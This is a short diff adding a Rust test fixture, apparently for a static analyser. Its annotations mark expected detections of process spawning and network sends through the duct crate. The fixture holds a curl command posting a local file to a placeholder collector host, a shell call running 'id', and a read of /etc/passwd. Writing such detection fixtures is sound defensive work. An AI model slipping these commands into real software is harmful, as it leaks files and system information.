@@ -1,0 +1,15 @@
+//! dependency: duct = "1.1.0"
+use duct::cmd;
+
+pub fn report() -> std::io::Result<()> {
+    cmd!("curl", "-d", "@x", "http://collector.invalid").run()?; //~ process.spawn curl; net.send http://collector.invalid
+    Ok(())
+}
+
+pub fn list() -> std::io::Result<String> {
+    duct::cmd("sh", ["-c", "id"]).read() //~ process.spawn sh; process.shell id
+}
+
+pub fn piped() -> std::io::Result<String> {
+    cmd!("cat", "/etc/passwd").pipe(cmd!("wc", "-l")).read() //~ process.spawn cat; process.spawn wc
+}
